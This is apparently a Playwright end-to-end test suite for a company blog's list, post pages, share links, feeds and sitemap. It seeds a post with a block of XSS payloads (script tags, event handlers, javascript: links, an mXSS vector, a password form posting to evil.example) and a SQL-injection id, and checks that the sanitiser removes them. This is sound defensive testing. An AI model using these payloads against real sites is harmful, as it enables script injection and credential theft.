import { SANITIZER_VERSION } from "#app/lib/sanitize.ts";
import { spawn, type ChildProcess } from "node:child_process";
import { randomUUID } from "node:crypto";
import { createServer } from "node:net";
import type { BrowserContext, Page, Route } from "@playwright/test";
import { createServerClient } from "@supabase/ssr";
import { createClient } from "@supabase/supabase-js";
import {
  BASE_URL,
  SUPABASE_ANON_KEY,
  SUPABASE_SERVICE_ROLE_KEY,
  SUPABASE_URL,
} from "../support/e2e-env.ts";
import {
  startFailingSite,
  type FailingSite,
} from "../support/failing-backend.ts";
import { DEMO_PASSWORD } from "../support/auth-helpers.ts";
import { expect, test } from "../support/fixtures.ts";

// The blog (its list and post pages) and its feeds, with
// and without JavaScript. Each worker seeds posts of its own under unique tags
// through the service role and removes them afterwards, so parallel runs and
// other specs never see each other's rows.

const ADMIN_ID = "a0000000-0000-4000-8000-000000000001";
const SEEDED_POST = {
  id: "b0000000-0000-4000-8000-000000000002",
  title: "A Data Engineering Blueprint for the Modern Lakehouse",
  lastParagraph: "or see how the same layout powers our",
  tags: ["Blueprints", "Data Engineering"],
};
const NO_COVER_POST_TITLE = "Anomaly Detection for Live Dashboards";
const PUBLIC_CACHE = "public, max-age=0, s-maxage=10, stale-while-revalidate=5";
const PAGING_POSTS = 14;

const HOSTILE_HTML = `
<p id="hostile-start">Hostile body survives as text.</p>
<script>window.__pwned = "script"</script>
<img src="/no-such-image.png" onerror="window.__pwned = 'onerror'" alt="broken">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9fcHduZWQ9J3N2ZyciLz4=" alt="svg">
<a id="js-link" href="javascript:window.__pwned='link'">javascript link</a>
<a href="JaVaScRiPt&#58;window.__pwned='link2'">encoded link</a>
<a href="//evil.example/phish">protocol-relative link</a>
<a href="https://example.com/ok">fine link</a>
<p onclick="window.__pwned='click'" onmouseover="window.__pwned='hover'">hover me</p>
<iframe src="https://youtube.com.evil.example/embed/abc"></iframe>
<iframe src="https://www.youtube.com.evil.example/embed/abc" onload="window.__pwned='frame'"></iframe>
<div data-youtube-video=""><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe></div>
<svg onload="window.__pwned='svg-inline'"><circle r="1"></circle></svg>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="password"></form>
<p style="background:url(javascript:alert(1));color:#ff0000" id="styled">styled text</p>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>
`;

type Seeded = {
  pagingTag: string;
  pagingIds: string[];
  hostileTag: string;
  hostileId: string;
  hostileTitle: string;
};

const service = createClient(SUPABASE_URL, SUPABASE_SERVICE_ROLE_KEY, {
  auth: { persistSession: false, autoRefreshToken: false },
});

async function seed(): Promise<Seeded> {
  const suffix = randomUUID().slice(0, 8);
  const pagingTag = `e2e paging ${suffix}`;
  const hostileTag = `e2e hostile ${suffix}`;
  // Paging posts are dated in the past so they never crowd the newest posts
  // (the feed's 20) that other tests look at.
  const pagingPosts = Array.from({ length: PAGING_POSTS }, (_, index) => ({
    id: randomUUID(),
    title: `Paging post ${suffix} #${String(index + 1).padStart(2, "0")}`,
    excerpt: `Excerpt ${index + 1}`,
    content: `<p>Paging body ${index + 1}</p>`,
    cover_image_url: null,
    author_id: ADMIN_ID,
    published: true,
    created_at: new Date(Date.UTC(2020, 0, 1 + index)).toISOString(),
  }));
  const hostile = {
    id: randomUUID(),
    title: `Hostile <b>post</b> & "friends" ${suffix}`,
    excerpt: null,
    content: HOSTILE_HTML,
    cover_image_url: "/blog/no-such-cover.png",
    author_id: ADMIN_ID,
    published: true,
    created_at: new Date().toISOString(),
  };
  const posts = await service
    .from("blog_posts")
    .insert([...pagingPosts, hostile]);
  if (posts.error) throw new Error(`seeding posts: ${posts.error.message}`);
  const tags = await service
    .from("tags")
    .insert([{ name: pagingTag }, { name: hostileTag }])
    .select("id, name");
  if (tags.error) throw new Error(`seeding tags: ${tags.error.message}`);
  const tagId = (name: string) =>
    tags.data.find((tag) => tag.name === name)?.id;
  const links = await service.from("post_tags").insert([
    ...pagingPosts.map((post) => ({
      post_id: post.id,
      tag_id: tagId(pagingTag),
    })),
    { post_id: hostile.id, tag_id: tagId(hostileTag) },
  ]);
  if (links.error) throw new Error(`seeding post_tags: ${links.error.message}`);
  return {
    pagingTag,
    // Newest first, as the list shows them.
    pagingIds: pagingPosts.map((post) => post.id).reverse(),
    hostileTag,
    hostileId: hostile.id,
    hostileTitle: hostile.title,
  };
}

async function cleanUp(seeded: Seeded) {
  await service
    .from("blog_posts")
    .delete()
    .in("id", [...seeded.pagingIds, seeded.hostileId]);
  await service
    .from("tags")
    .delete()
    .in("name", [seeded.pagingTag, seeded.hostileTag]);
}

let seeded: Seeded;
test.beforeAll(async () => {
  seeded = await seed();
});
test.afterAll(async () => {
  if (seeded) await cleanUp(seeded);
});

/** Nothing leaves the machine: share links and embeds are inspected, never followed. */
async function keepLocal(context: BrowserContext) {
  const outbound: string[] = [];
  await context.route(
    (url) => url.hostname !== "127.0.0.1" && url.hostname !== "localhost",
    (route) => {
      outbound.push(route.request().url());
      return route.abort();
    },
  );
  return outbound;
}

/** The session cookies @supabase/ssr would set for this demo account. */
async function sessionCookies(email: string) {
  const jar = new Map<string, string>();
  const client = createServerClient(SUPABASE_URL, SUPABASE_ANON_KEY, {
    cookies: {
      getAll: () => [...jar].map(([name, value]) => ({ name, value })),
      setAll: (cookies) => {
        for (const { name, value } of cookies) jar.set(name, value);
      },
    },
  });
  const { error } = await client.auth.signInWithPassword({
    email,
    password: DEMO_PASSWORD,
  });
  if (error) throw new Error(`sign-in for ${email}: ${error.message}`);
  await expect.poll(() => jar.size).toBeGreaterThan(0);
  return [...jar].map(([name, value]) => ({ name, value, url: BASE_URL }));
}

function postCards(page: Page) {
  return page.locator("main article").filter({ has: page.locator("h2 a") });
}

test.describe("blog list", () => {
  test("shows the heading, tagline and newest posts as cards", async ({
    page,
    context,
  }) => {
    await keepLocal(context);
    const response = await page.goto("/blueprints");
    expect(response?.status()).toBe(200);
    expect(response?.headers()["cache-control"]).toBe(PUBLIC_CACHE);
    await expect(
      page.getByRole("heading", {
        level: 1,
        name: "Blueprints & Breakthroughs",
      }),
    ).toBeVisible();
    await expect(
      page.getByText("Insights and news about AI automation"),
    ).toBeVisible();
    await expect(
      page.getByRole("link", { name: "Clear tag filter" }),
    ).toHaveCount(0);
    await expect(page).toHaveTitle(/Blueprints & Breakthroughs/);

    const seededCard = postCards(page).filter({ hasText: SEEDED_POST.title });
    await expect(seededCard).toHaveCount(1);
    await expect(seededCard.getByText("Recursa Team")).toBeVisible();
    await expect(seededCard.locator("img")).toHaveAttribute(
      "src",
      "/blog/cover-data-engineering.svg",
    );
    for (const tag of SEEDED_POST.tags) {
      await expect(
        seededCard.getByRole("link", { name: tag, exact: true }),
      ).toHaveAttribute(
        "href",
        `/blueprints?tag=${encodeURIComponent(tag).replace(/%20/g, "+")}`,
      );
    }
    await expect(
      postCards(page)
        .filter({ hasText: NO_COVER_POST_TITLE })
        .getByText("Article Preview"),
    ).toBeVisible();
    // The designed fallback does not repeat the title the card shows below it.
    await expect(
      postCards(page)
        .filter({ hasText: NO_COVER_POST_TITLE })
        .locator('[aria-hidden="true"]')
        .first(),
    ).toHaveText("Article Preview");
    // Each card says when it was published.
    await expect(seededCard.locator("time")).toHaveText("July 14, 2026");
    await expect(seededCard.locator("time")).toHaveAttribute(
      "datetime",
      "2026-07-14",
    );

    // The first row's covers load with the page (the first at high
    // priority), the rest when scrolled near.
    const items = page
      .locator("main ul li")
      .filter({ has: page.locator("article") });
    const count = await items.count();
    for (let index = 0; index < count; index++) {
      const cover = items.nth(index).locator("article > img");
      if ((await cover.count()) === 0) continue;
      await expect(cover, `card ${index}`).toHaveAttribute(
        "loading",
        index < 2 ? "eager" : "lazy",
      );
      if (index === 0)
        await expect(cover).toHaveAttribute("fetchpriority", "high");
      else await expect(cover).not.toHaveAttribute("fetchpriority", "high");
    }

    // Newest first: the seed's November post comes before its June one.
    const titles = await postCards(page).locator("h2").allTextContents();
    expect(titles.indexOf(NO_COVER_POST_TITLE)).toBeLessThan(
      titles.indexOf(SEEDED_POST.title),
    );
    expect(titles.length).toBeLessThanOrEqual(12);

    // The whole card is the link: a click on its excerpt lands on the title
    // link's overlay. Centred first, as the fixed navigation covers the top edge.
    const excerpt = seededCard
      .locator("p")
      .filter({ hasText: "Ingestion, modelling" });
    await excerpt.evaluate((element) =>
      element.scrollIntoView({ block: "center", behavior: "instant" }),
    );
    const box = await excerpt.boundingBox();
    expect(box).not.toBeNull();
    await page.mouse.click(box!.x + box!.width / 2, box!.y + box!.height / 2);
    await expect(page).toHaveURL(`/blueprints/${SEEDED_POST.id}`);
    await expect(
      page.getByRole("heading", { level: 1, name: SEEDED_POST.title }),
    ).toBeVisible();
  });

  test("a tag chip filters the list and the filter can be cleared", async ({
    page,
    context,
  }) => {
    await keepLocal(context);
    await page.goto("/blueprints");
    await postCards(page)
      .filter({ hasText: SEEDED_POST.title })
      .getByRole("link", { name: "Data Engineering", exact: true })
      .click();
    await expect(page).toHaveURL(/\/blueprints\?tag=Data\+Engineering$/);
    await expect(
      page.getByText('Posts tagged with "Data Engineering"'),
    ).toBeVisible();
    const titles = await postCards(page).locator("h2").allTextContents();
    expect(titles).toContain(SEEDED_POST.title);
    expect(titles).not.toContain(NO_COVER_POST_TITLE);
    // Filtered cards still show all of their tags.
    await expect(
      postCards(page)
        .filter({ hasText: SEEDED_POST.title })
        .getByRole("link", { name: "Blueprints", exact: true }),
    ).toBeVisible();

    await page.getByRole("link", { name: "Clear tag filter" }).click();
    await expect(page).toHaveURL(/\/blueprints$/);
    await expect(
      page.getByText("Insights and news about AI automation"),
    ).toBeVisible();
    await expect(
      postCards(page).filter({ hasText: NO_COVER_POST_TITLE }),
    ).toHaveCount(1);
  });

  test("pages of 12 with prev and next links", async ({ page, context }) => {
    await keepLocal(context);
    const first = await page.goto(
      `/blueprints?tag=${encodeURIComponent(seeded.pagingTag)}`,
    );
    expect(first?.status()).toBe(200);
    const hrefs = () =>
      postCards(page)
        .locator("h2 a")
        .evaluateAll((links) => links.map((a) => a.getAttribute("href")));
    expect(await hrefs()).toEqual(
      seeded.pagingIds.slice(0, 12).map((id) => `/blueprints/${id}`),
    );
    await expect(page.locator('a[rel="prev"]')).toHaveCount(0);
    await expect(page.getByText("Page 1", { exact: true })).toBeVisible();

    // The link carries where the page ended (a cursor), not a row offset.
    await page.locator('a[rel="next"]').click();
    await expect(page).toHaveURL(/page=2&after=/);
    await expect(page.getByText("Page 2", { exact: true })).toBeVisible();
    expect(await hrefs()).toEqual(
      seeded.pagingIds.slice(12).map((id) => `/blueprints/${id}`),
    );
    await expect(page.locator('a[rel="next"]')).toHaveCount(0);

    await page.locator('a[rel="prev"]').click();
    await expect(page.getByText("Page 1", { exact: true })).toBeVisible();
    expect(new URL(page.url()).searchParams.get("page")).toBeNull();
  });

  test("an unknown tag or a page past the end is an empty list, not an error", async ({
    page,
  }) => {
    const unknown = await page.goto("/blueprints?tag=no-such-tag-anywhere");
    expect(unknown?.status()).toBe(200);
    await expect(
      page.getByText('No posts found with tag "no-such-tag-anywhere"'),
    ).toBeVisible();
    await expect(
      page.getByRole("link", { name: "Clear tag filter" }),
    ).toHaveAttribute("href", "/blueprints");

    // A cursor older than every post: an empty page with the way back.
    const oldest = Buffer.from(
      JSON.stringify([
        "1990-01-01T00:00:00+00:00",
        "00000000-0000-4000-8000-000000000000",
      ]),
    ).toString("base64url");
    const pastEnd = await page.goto(`/blueprints?page=5000&after=${oldest}`);
    expect(pastEnd?.status()).toBe(200);
    await expect(page.getByText("No posts available yet.")).toBeVisible();
    await expect(page.locator('a[rel="prev"]')).toHaveAttribute(
      "href",
      "/blueprints",
    );

    const junk = await page.goto("/blueprints?page=-1");
    expect(junk?.status()).toBe(200);
    await expect(postCards(page).first()).toBeVisible();
  });

  // client navigations need JavaScript
  test(
    '"Loading..." while a client navigation is pending',
    { tag: "@js-only" },
    async ({ page, context }) => {
      await keepLocal(context);
      await page.goto("/blueprints");
      const release = holdDataRequests(page);
      await postCards(page)
        .filter({ hasText: SEEDED_POST.title })
        .getByRole("link", { name: "Blueprints", exact: true })
        .click();
      await expect(
        page.getByRole("status").filter({ hasText: "Loading..." }),
      ).toBeVisible();
      release();
      await expect(
        page.getByText('Posts tagged with "Blueprints"'),
      ).toBeVisible();
      await expect(page.getByText("Loading...")).toHaveCount(0);
    },
  );
});

/** Holds React Router's data requests until released, to see the pending UI. */
function holdDataRequests(page: Page) {
  let open: () => void = () => {};
  const gate = new Promise<void>((resolve) => {
    open = resolve;
  });
  void page.route(
    (url) => url.pathname.endsWith(".data"),
    async (route: Route) => {
      await gate;
      await route.continue();
    },
  );
  return open;
}

test.describe("blog post", () => {
  test("renders title, team label, cover, body, tags and share links", async ({
    page,
    context,
  }, testInfo) => {
    const outbound = await keepLocal(context);
    const response = await page.goto(`/blueprints/${SEEDED_POST.id}`);
    expect(response?.status()).toBe(200);
    expect(response?.headers()["cache-control"]).toBe(PUBLIC_CACHE);
    await expect(
      page.getByRole("heading", { level: 1, name: SEEDED_POST.title }),
    ).toBeVisible();
    // The related posts' cards name their authors too: the byline is the header's.
    await expect(
      page.locator("article header").getByText("Recursa Team"),
    ).toBeVisible();
    await expect(page.locator("article img").first()).toHaveAttribute(
      "src",
      "/blog/cover-data-engineering.svg",
    );
    await expect(
      page.getByRole("heading", {
        level: 2,
        name: "Tests are part of the pipeline",
      }),
    ).toBeVisible();
    await expect(
      page.getByRole("link", { name: "data engineer agent" }),
    ).toHaveAttribute("rel", "noopener noreferrer nofollow");
    await expect(page.getByRole("link", { name: "Edit Post" })).toHaveCount(0);

    const tags = page.getByRole("region", { name: "Tags" });
    await expect(tags.getByRole("heading", { name: "Tags" })).toBeVisible();
    await expect(
      tags.getByRole("link", { name: "Data Engineering" }),
    ).toHaveAttribute("href", "/blueprints?tag=Data+Engineering");

    const share = page.getByRole("region", { name: "Share this post" });
    const postUrl = encodeURIComponent(
      `${BASE_URL}/blueprints/${SEEDED_POST.id}`,
    );
    const expected = {
      Facebook: `https://www.facebook.com/sharer/sharer.php?u=${postUrl}`,
      Twitter: `https://twitter.com/intent/tweet?url=${postUrl}&text=`,
      LinkedIn: `https://www.linkedin.com/sharing/share-offsite/?url=${postUrl}`,
    };
    for (const [network, href] of Object.entries(expected)) {
      const link = share.getByRole("link", { name: `Share on ${network}` });
      expect(await link.getAttribute("href")).toContain(href);
      await expect(link).toHaveAttribute("target", "_blank");
    }
    // Twitter's mark is X's now, as in the footer.
    await expect(
      share.getByRole("link", { name: "Share on Twitter" }).locator("use"),
    ).toHaveAttribute("href", /#x-logo$/);
    if (testInfo.project.name === "no-js") {
      // Copying and the share sheet need scripts: they are not offered without.
      await expect(share.getByRole("button")).toHaveCount(0);
    }

    // Metadata for sharing and search.
    await expect(page.locator('meta[property="og:type"]')).toHaveAttribute(
      "content",
      "article",
    );
    await expect(page.locator('meta[name="description"]')).toHaveAttribute(
      "content",
      /^Ingestion, modelling/,
    );
    const jsonLd = await page
      .locator('script[type="application/ld+json"]')
      .allTextContents();
    const posting = jsonLd
      .map((text) => JSON.parse(text))
      .find((item) => item["@type"] === "BlogPosting");
    expect(posting).toMatchObject({
      headline: SEEDED_POST.title,
      // The cover's PNG twin, as og:image: consumers of either render no SVG.
      image: `${BASE_URL}/blog/cover-data-engineering.png`,
      datePublished: expect.stringMatching(/^2026-07-14T08:00:00/),
      dateModified: expect.stringMatching(/^2026-07-16T13:45:00/),
      author: { name: "team" },
    });

    await page.waitForLoadState("networkidle");
    expect(outbound).toEqual([]);
  });

  // these buttons need JavaScript
  test(
    "copy link, native share and share popups",
    { tag: "@js-only" },
    async ({ page, context }) => {
      await keepLocal(context);
      await context.grantPermissions(["clipboard-read", "clipboard-write"], {
        origin: BASE_URL,
      });
      await page.addInitScript(() => {
        const calls: unknown[] = [];
        Object.assign(window, { __calls: calls });
        window.open = (...args: unknown[]) => {
          calls.push(["open", ...args]);
          return { opener: window } as unknown as Window;
        };
      });
      await page.goto(`/blueprints/${SEEDED_POST.id}`);
      const share = page.getByRole("region", { name: "Share this post" });
      const postUrl = `${BASE_URL}/blueprints/${SEEDED_POST.id}`;

      const copy = share.getByRole("button", { name: "Copy link" });
      await copy.click();
      await expect(
        share.getByRole("button", { name: "Copied!" }),
      ).toBeVisible();
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
        postUrl,
      );
      await expect(
        share.getByRole("button", { name: "Copy link" }),
      ).toBeVisible({
        timeout: 3_000,
      });

      for (const network of ["Facebook", "Twitter", "LinkedIn"]) {
        await share.getByRole("link", { name: `Share on ${network}` }).click();
      }
      const calls = (await page.evaluate(
        () => (window as unknown as { __calls: unknown[][] }).__calls,
      )) as [string, string, string, string][];
      expect(
        calls.map(([, , , features]) =>
          /width=(\d+),height=(\d+)/.exec(features)?.slice(1).join("x"),
        ),
      ).toEqual(["550x400", "550x400", "750x600"]);
      expect(calls[0]?.[1]).toContain("facebook.com/sharer");
      expect(page.url()).toBe(postUrl);
      await expect(
        share.getByRole("button", { name: "Share via..." }),
      ).toHaveCount(
        (await page.evaluate(() => typeof navigator.share === "function"))
          ? 1
          : 0,
      );
    },
  );

  // native sharing needs JavaScript
  test(
    '"Share via..." only where the browser can share',
    { tag: "@js-only" },
    async ({ page, context }) => {
      await keepLocal(context);
      await page.addInitScript(() => {
        const shared: unknown[] = [];
        Object.assign(window, { __shared: shared });
        Object.defineProperty(Navigator.prototype, "share", {
          configurable: true,
          value: (data: unknown) => {
            shared.push(data);
            return Promise.reject(new DOMException("dismissed", "AbortError"));
          },
        });
      });
      await page.goto(`/blueprints/${SEEDED_POST.id}`);
      await page.getByRole("button", { name: "Share via..." }).click();
      await expect
        .poll(() =>
          page.evaluate(
            () => (window as unknown as { __shared: unknown[] }).__shared,
          ),
        )
        .toEqual([
          {
            title: SEEDED_POST.title,
            text: "Check out this blog post!",
            url: `${BASE_URL}/blueprints/${SEEDED_POST.id}`,
          },
        ]);
      // A dismissed share sheet is not an error the visitor sees.
      await expect(page.getByRole("alert")).toHaveCount(0);

      const plain = await context.newPage();
      await plain.addInitScript(() => {
        Object.defineProperty(Navigator.prototype, "share", {
          configurable: true,
          value: undefined,
        });
      });
      await plain.goto(`/blueprints/${SEEDED_POST.id}`);
      await expect(
        plain.getByRole("button", { name: "Copy link" }),
      ).toBeVisible();
      await expect(
        plain.getByRole("button", { name: "Share via..." }),
      ).toHaveCount(0);
    },
  );

  // client navigations need JavaScript
  test(
    "a skeleton while a post loads on a client navigation",
    { tag: "@js-only" },
    async ({ page, context }) => {
      await keepLocal(context);
      await page.goto("/blueprints");
      const release = holdDataRequests(page);
      await postCards(page)
        .filter({ hasText: SEEDED_POST.title })
        .locator("h2 a")
        .click();
      await expect(
        page.getByRole("status", { name: "Loading post" }),
      ).toBeVisible();
      release();
      await expect(
        page.getByRole("heading", { level: 1, name: SEEDED_POST.title }),
      ).toBeVisible();
    },
  );

  test("unknown and malformed ids are 404 Post Not Found", async ({ page }) => {
    for (const id of [
      randomUUID(),
      "not-a-uuid",
      "1' or '1'='1",
      "b0000000-0000-4000-8000-00000000000",
    ]) {
      const response = await page.goto(`/blueprints/${encodeURIComponent(id)}`);
      expect(response?.status(), id).toBe(404);
      await expect(
        page.getByRole("heading", { name: "Post Not Found" }),
      ).toBeVisible();
      await expect(
        page.getByText(
          "The blog post you're looking for doesn't exist or has been removed.",
        ),
      ).toBeVisible();
      await expect(page.locator('meta[name="robots"]')).toHaveAttribute(
        "content",
        /noindex/,
      );
      // The site's navigation is still there.
      await expect(
        page.getByRole("link", { name: "Home" }).first(),
      ).toBeVisible();
    }
  });

  test("a post with hostile HTML renders none of it", async ({
    page,
    context,
  }, testInfo) => {
    await keepLocal(context);
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const response = await page.goto(`/blueprints/${seeded.hostileId}`);
    expect(response?.status()).toBe(200);
    await expect(
      page.getByRole("heading", { level: 1, name: seeded.hostileTitle }),
    ).toBeVisible();
    await expect(
      page.getByText("Hostile body survives as text."),
    ).toBeVisible();
    await expect(page.getByText("hover me")).toBeVisible();
    // No excerpt: the product's fallback description.
    await expect(page.locator('meta[name="description"]')).toHaveAttribute(
      "content",
      `Read ${seeded.hostileTitle} on the blog`,
    );

    const article = page.locator("article");
    await expect(
      article.locator(
        "script, style, svg:not([aria-hidden]), form, input, object, embed, math",
      ),
    ).toHaveCount(0);
    await expect(
      article.locator(
        '[href^="javascript" i], [href*="script:" i], [href^="//"]',
      ),
    ).toHaveCount(0);
    await expect(article.locator('img[src^="data:image/svg" i]')).toHaveCount(
      0,
    );
    await expect(article.locator('iframe[src*="evil"]')).toHaveCount(0);
    const frames = article.locator("iframe");
    await expect(frames).toHaveCount(1);
    await expect(frames).toHaveAttribute(
      "src",
      "https://www.youtube.com/embed/dQw4w9WgXcQ",
    );
    await expect(frames).toHaveAttribute("sandbox", /allow-scripts/);
    // A link whose scheme is refused keeps its text and loses its destination.
    const refused = article.locator("a", { hasText: "javascript link" });
    await expect(refused).toHaveCount(1);
    expect(await refused.getAttribute("href")).toBeNull();
    await expect(
      article.getByRole("link", { name: "fine link" }),
    ).toHaveAttribute("href", "https://example.com/ok");
    await expect(
      article.locator("p", { hasText: "styled text" }),
    ).toHaveAttribute("style", "color:#ff0000");

    const handlers = await article.evaluate((root) =>
      [root, ...root.querySelectorAll("*")].flatMap((element) =>
        element
          .getAttributeNames()
          .filter((name) => name.toLowerCase().startsWith("on")),
      ),
    );
    expect(handlers).toEqual([]);

    if (testInfo.project.name === "js") {
      await page.getByText("hover me").hover();
      await page.getByText("hover me").click();
      await refused.click();
      await page.waitForLoadState("networkidle");
      expect(
        await page.evaluate(
          () => (window as unknown as { __pwned?: string }).__pwned,
        ),
      ).toBeUndefined();
      // The cover failed to load, so it is gone. (Cards of other posts below
      // it may show the same address: only the post's own cover is checked.)
      await expect(
        page.locator('article > div > img[src="/blog/no-such-cover.png"]'),
      ).toHaveCount(0);
    }
    expect(dialogs).toEqual([]);
  });

  test("a post's HTML is sanitised once and stored; content changed behind the app's back is sanitised again", async ({
    request,
  }) => {
    const author = createClient(SUPABASE_URL, SUPABASE_ANON_KEY, {
      auth: { persistSession: false, autoRefreshToken: false },
    });
    const signedIn = await author.auth.signInWithPassword({
      email: "author@example.com",
      password: DEMO_PASSWORD,
    });
    expect(signedIn.error).toBeNull();
    const id = randomUUID();
    const created = await author.from("blog_posts").insert({
      id,
      title: `Stored once ${id.slice(0, 8)}`,
      content: "<p>The first version.</p>",
      author_id: signedIn.data.user!.id,
    });
    expect(created.error).toBeNull();
    const stored = async () =>
      (
        await service
          .from("post_html")
          .select("html, sanitizer_version")
          .eq("post_id", id)
      ).data?.[0];

    expect((await request.get(`/blueprints/${id}`)).status()).toBe(200);
    expect(await stored()).toEqual({
      html: "<p>The first version.</p>",
      sanitizer_version: SANITIZER_VERSION,
    });
    // The author rewrites the content with their own token, not the form.
    const rewritten = await author
      .from("blog_posts")
      .update({
        content:
          '<p>The second version.</p><img src="x" onerror="window.__pwned=1">',
      })
      .eq("id", id);
    expect(rewritten.error).toBeNull();
    // Nor may they write the stored HTML themselves.
    const forged = await author
      .from("post_html")
      .update({ html: "<script>window.__pwned=1</script>" })
      .eq("post_id", id);
    expect(forged.error).not.toBeNull();

    const page = await (await request.get(`/blueprints/${id}`)).text();
    expect(page).toContain("The second version.");
    expect(page).not.toContain("onerror");
    expect(page).not.toContain("__pwned");
    // The image's handler went, and the image with it (a relative "x" is no
    // source the policy allows).
    expect((await stored())?.html).toBe("<p>The second version.</p>");
    await service.from("blog_posts").delete().eq("id", id);
  });

  test("crawlers get the whole article in the first response", async ({
    browser,
    request,
  }) => {
    const googlebot =
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    const response = await request.get(`/blueprints/${SEEDED_POST.id}`, {
      headers: { "User-Agent": googlebot },
    });
    expect(response.status()).toBe(200);
    const html = await response.text();
    expect(html).toContain(`<h1 id="post-title"`);
    expect(html).toContain("Start from a layout, not a blank page");
    expect(html).toContain(SEEDED_POST.lastParagraph);
    expect(html).toContain('"@type":"BlogPosting"');

    const context = await browser.newContext({
      baseURL: BASE_URL,
      userAgent: googlebot,
      javaScriptEnabled: false,
    });
    const page = await context.newPage();
    await page.goto(`/blueprints/${SEEDED_POST.id}`);
    await expect(page.getByText(SEEDED_POST.lastParagraph)).toBeVisible();
    await context.close();
  });
});

test.describe("signed-in readers", () => {
  test("the author and team members see Edit Post; nothing is cached publicly", async ({
    browser,
  }) => {
    test.setTimeout(90_000);
    const cases = [
      { email: "author@example.com", postId: SEEDED_POST.id, edit: true },
      {
        email: "author@example.com",
        postId: "b0000000-0000-4000-8000-000000000001",
        edit: false,
      },
      { email: "admin@example.com", postId: SEEDED_POST.id, edit: true },
      { email: "reader@example.com", postId: SEEDED_POST.id, edit: false },
    ];
    for (const { email, postId, edit } of cases) {
      const context = await browser.newContext({ baseURL: BASE_URL });
      await context.addCookies(await sessionCookies(email));
      const page = await context.newPage();
      const response = await page.goto(`/blueprints/${postId}`);
      expect(response?.status()).toBe(200);
      expect(response?.headers()["cache-control"], email).toBe(
        "private, no-store",
      );
      const button = page.getByRole("link", { name: "Edit Post" });
      if (edit)
        await expect(button, `${email} on ${postId}`).toHaveAttribute(
          "href",
          `/edit/${postId}`,
        );
      else await expect(button, `${email} on ${postId}`).toHaveCount(0);
      const list = await page.goto("/blueprints");
      expect(list?.headers()["cache-control"]).toBe("private, no-store");
      await context.close();
    }
  });
});

// The feeds are parsed with the browser's DOMParser.
test.describe("feeds and crawling", { tag: "@js-only" }, () => {
  async function parseXml(page: Page, xml: string) {
    await page.goto("about:blank");
    return page.evaluate((source) => {
      const doc = new DOMParser().parseFromString(source, "application/xml");
      const error = doc.querySelector("parsererror")?.textContent ?? null;
      const texts = (selector: string) =>
        [...doc.querySelectorAll(selector)].map(
          (node) => node.textContent ?? "",
        );
      return {
        error,
        root: doc.documentElement.nodeName,
        version: doc.documentElement.getAttribute("version"),
        itemTitles: texts("item > title"),
        itemLinks: texts("item > link"),
        itemDates: texts("item > pubDate"),
        locs: texts("url > loc"),
        lastmods: [...doc.querySelectorAll("url")].map((url) => ({
          loc: url.querySelector("loc")?.textContent,
          lastmod: url.querySelector("lastmod")?.textContent ?? null,
        })),
      };
    }, xml);
  }

  test("RSS 2.0 lists the newest posts with absolute links and escaped titles", async ({
    page,
    request,
  }) => {
    const response = await request.get("/blueprints/rss.xml");
    expect(response.status()).toBe(200);
    expect(response.headers()["content-type"]).toContain("application/rss+xml");
    const xml = await response.text();
    expect(xml).not.toContain("<b>post</b>");
    const feed = await parseXml(page, xml);
    expect(feed.error).toBeNull();
    expect(feed.root).toBe("rss");
    expect(feed.version).toBe("2.0");
    expect(feed.itemTitles.length).toBeGreaterThan(0);
    expect(feed.itemTitles.length).toBeLessThanOrEqual(20);
    expect(feed.itemTitles).toContain(seeded.hostileTitle);
    expect(feed.itemLinks).toContain(
      `${BASE_URL}/blueprints/${seeded.hostileId}`,
    );
    for (const link of feed.itemLinks)
      expect(link).toMatch(
        /^http:\/\/127\.0\.0\.1:\d+\/blueprints\/[0-9a-f-]{36}$/,
      );
    const times = feed.itemDates.map((date) => Date.parse(date));
    expect(times).toEqual([...times].sort((a, b) => b - a));
  });

  test("the sitemap lists every public page and every post with lastmod", async ({
    page,
    request,
  }) => {
    const response = await request.get("/sitemap.xml");
    expect(response.status()).toBe(200);
    const sitemap = await parseXml(page, await response.text());
    expect(sitemap.error).toBeNull();
    expect(sitemap.root).toBe("urlset");
    for (const path of [
      "/",
      "/blueprint-showcase",
      "/company",
      "/contact-us",
      "/newsletter",
      "/careers",
      "/careers/1",
      "/careers/2",
      "/agents/data-engineer",
      "/agents/data-analyst",
      "/agents/ml-engineer",
      "/blueprints",
    ]) {
      expect(sitemap.locs).toContain(`${BASE_URL}${path}`);
    }
    for (const id of [SEEDED_POST.id, seeded.hostileId, ...seeded.pagingIds]) {
      const entry = sitemap.lastmods.find(
        (item) => item.loc === `${BASE_URL}/blueprints/${id}`,
      );
      expect(entry?.lastmod, id).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    }
  });

  test("robots.txt points at the sitemap and keeps private areas out", async ({
    request,
  }) => {
    const response = await request.get("/robots.txt");
    expect(response.status()).toBe(200);
    const robots = await response.text();
    expect(robots).toContain(`Sitemap: ${BASE_URL}/sitemap.xml`);
    for (const path of ["/write", "/edit", "/admin", "/auth"])
      expect(robots).toContain(`Disallow: ${path}\n`);
    // Before any Allow line, so a first-match parser reads them too.
    expect(robots.indexOf("Allow:")).toBeGreaterThan(
      robots.lastIndexOf("Disallow:"),
    );
  });
});

// A second app server whose Supabase is a closed port: the only reliable way
// to see the pages' failure states without breaking the shared backend.
test.describe("when Supabase is unreachable", () => {
  let server: ChildProcess | undefined;
  let origin = "";

  async function freePort() {
    return new Promise<number>((resolve, reject) => {
      const probe = createServer();
      probe.once("error", reject);
      probe.listen(0, "127.0.0.1", () => {
        const address = probe.address();
        probe.close(() =>
          resolve(typeof address === "object" && address ? address.port : 0),
        );
      });
    });
  }

  test.beforeAll(async () => {
    const [port, deadPort] = [await freePort(), await freePort()];
    origin = `http://127.0.0.1:${port}`;
    server = spawn(
      process.execPath,
      ["node_modules/@react-router/serve/bin.cjs", "./build/server/index.js"],
      {
        cwd: new URL("../../", import.meta.url).pathname,
        stdio: "ignore",
        env: {
